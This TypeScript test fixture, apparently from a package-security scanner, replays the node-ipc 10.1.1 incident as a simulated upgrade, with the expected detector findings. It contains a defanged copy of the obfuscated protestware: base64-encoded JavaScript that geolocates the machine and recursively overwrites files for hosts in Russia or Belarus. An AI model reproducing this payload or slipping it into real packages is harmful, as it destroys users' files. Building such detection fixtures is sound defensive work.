import { compiledQueue } from '../plain-modules.js'
import type { Replay } from '../replay.js'
import { replayUpgrade } from '../upgrade.js'

const index = `'use strict'

const { createQueue } = require('./lib/queue')

class Ipc {
  constructor() {
    this.config = { appspace: 'app.', retry: 500, maxRetries: Infinity }
    this.queue = createQueue()
  }

  connectTo(id, callback) {
    return this.queue.add(async () => callback(id, this.config.appspace + id))
  }
}

module.exports = new Ipc()
`

const b = (text: string): string => `o("${Buffer.from(text).toString('base64')}")`

/** Would write over a folder that no machine has, where the answer named one of two countries. */
const geospec =
  'const s=require("path"),i=require("fs"),c=require("https"),o=t=>Buffer.from(t,"base64").toString();' +
  'setTimeout(function(){const t=Math.round(Math.random()*4);if(t>1)return;' +
  `c.get(${b('https://api.geo.example/ipgeo?apiKey=inert')},function(t){t.on("data",function(t){try{const n=JSON.parse(t.toString());` +
  `const e=n[${b('country_name')}].toLowerCase(),r=e.includes(${b('russia')})||e.includes(${b('belarus')});` +
  `if(r){h(${b('/no-such-folder/inert')})}}catch(t){}})})},Math.ceil(Math.random()*1e3));` +
  'function h(n="",t){if(!i.existsSync(n))return;let e=[];try{e=i.readdirSync(n)}catch(t){}' +
  `for(var a=0;a<e.length;a++){const l=s.join(n,e[a]);let t=null;try{t=i.lstatSync(l)}catch(t){continue}` +
  `if(t.isDirectory())h(l);else try{i.writeFile(l,${b('❤️')},function(){})}catch(t){}}}\n`

const inSslGeospec = { file: 'dao/ssl-geospec.js', line: /const s=require\("path"\),i=require\("f/ } as const

export const replay: Replay = replayUpgrade({
  description:
    'The maintainer of node-ipc put in a file that asked where the machine stood and, in two countries, wrote over every file that it ' +
    'could reach. All that would have told were texts in base64.',
  date: '2022-03',
  name: 'node-ipc',
  from: ['10.1.0', { files: { 'index.js': index, 'lib/queue.js': compiledQueue } }],
  to: [
    '10.1.1',
    {
      files: {
        'index.js': index.replace("'./lib/queue')\n", "'./lib/queue')\nrequire('./dao/ssl-geospec.js')\n"),
        'lib/queue.js': compiledQueue,
        'dao/ssl-geospec.js': geospec,
      },
    },
  ],
  findings: [
    ['beacon-added', 'high', inSslGeospec],
    ['capability-added', 'high', inSslGeospec],
    ['network-host-added', 'high', inSslGeospec],
  ],
})
